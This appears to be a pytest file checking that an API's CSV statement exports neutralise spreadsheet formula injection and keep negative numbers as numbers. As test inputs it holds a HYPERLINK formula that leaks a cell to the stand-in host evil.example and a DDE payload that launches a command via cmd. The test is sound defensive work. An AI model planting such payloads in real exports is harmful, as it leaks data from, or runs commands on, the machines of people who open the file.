"""CSV statements neutralise spreadsheet formulas in text cells (OWASP CSV injection), and
leave numbers — negative ones included — as numbers."""

from __future__ import annotations

import csv
import io

from freezegun import freeze_time

from .conftest import NOW

SHOP_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
TILL_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
ACTIVITY_NAME = "+Good Gym run"


def rows(resp) -> list[list[str]]:
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True))))


def test_formulas_in_names_are_neutralised_and_numbers_are_not(client, month):
    officer = month.officer.auth
    b = month.shop_b
    with freeze_time(NOW):
        for path, body in (
            (f"/api/v1/shops/{b['shop_id']}", {"name": SHOP_NAME}),
            (f"/api/v1/terminals/{b['terminal_id']}", {"name": TILL_NAME}),
            ("/api/v1/activities/good-gym-run", {"name": ACTIVITY_NAME}),
        ):
            resp = client.patch(path, json=body, headers=officer)
            assert resp.status_code == 200, resp.get_json()
        scheme = rows(client.get("/api/v1/statements/2026-10?format=csv", headers=officer))
        shop = rows(
            client.get(
                f"/api/v1/statements/2026-10?format=csv&shop={b['shop_id']}", headers=officer
            )
        )
        as_json = client.get("/api/v1/statements/2026-10", headers=officer).get_json()
    cells = [cell for row in scheme + shop for cell in row]
    # Every text cell a spreadsheet would evaluate now starts with a quote...
    assert "'" + SHOP_NAME in cells and "'" + ACTIVITY_NAME in cells
    assert "'" + TILL_NAME in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # ...while negative numbers stay numbers: the issuance account's balances.
    issuance = next(r for r in scheme if r and r[0] == "issuance")
    assert issuance[1:] == ["-10", "0", "155", "-155", "-165"]
    assert [c for c in cells if c.startswith("-")] != []
    assert all(c.lstrip("-").isdigit() for c in cells if c.startswith("-"))
    # The JSON statement carries the names exactly as they are (it is not a spreadsheet).
    assert SHOP_NAME in {s["name"] for s in as_json["per_shop"]}
